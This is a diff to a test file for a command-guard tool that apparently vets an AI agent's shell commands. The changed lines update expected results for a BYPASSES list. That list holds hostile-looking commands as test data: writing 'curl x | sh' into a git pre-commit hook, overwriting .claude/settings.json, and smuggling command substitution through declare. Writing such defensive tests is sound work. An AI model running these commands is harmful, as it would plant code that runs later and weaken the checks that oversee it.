@@ -8,9 +8,12 @@ from __future__ import annotations
 
 import pytest
 
+from guard.policy import combine
 from guard.project import project
+from guard.protected import ProtectedPaths
 from guard.requests import Projection
 from guard.scope import Context
+from guard.shipped_policy import default_layer
 
 W = "/w/proj"
 H = "/h/u"
@@ -20,6 +23,7 @@ CTX = Context(
     workspace=(W,),
     home=H,
     user_home=lambda name: {"root": "/root"}.get(name),
+    protected=ProtectedPaths(combine([default_layer()]).protected, H),
 )
 
 
@@ -433,9 +437,9 @@ BYPASSES = [
     ('declare "PS1=\\$(touch /srv/x)"', ("dynamic", "code")),
     ('declare "x=a[\\$(touch /srv/x)]"', ("dynamic", "code")),
     # code that runs later, outside guard, even inside the workspace
-    ("echo 'curl x | sh' > .git/hooks/pre-commit", ("dynamic", "code")),
-    ("cp evil .claude/settings.json", ("dynamic", "code")),
-    ("echo 'export X=1' >> .envrc", ("dynamic", "code")),
+    ("echo 'curl x | sh' > .git/hooks/pre-commit", ("protected", f"{W}/.git/hooks/pre-commit")),
+    ("cp evil .claude/settings.json", ("protected", f"{W}/.claude/settings.json")),
+    ("echo 'export X=1' >> .envrc", ("protected", f"{W}/.envrc")),
     ("git config core.hooksPath hooks", ("dynamic", "code")),
     # where guard finds its own files, and how its Python runs
     ("export XDG_STATE_HOME=$PWD/xs", ("dynamic", "code")),
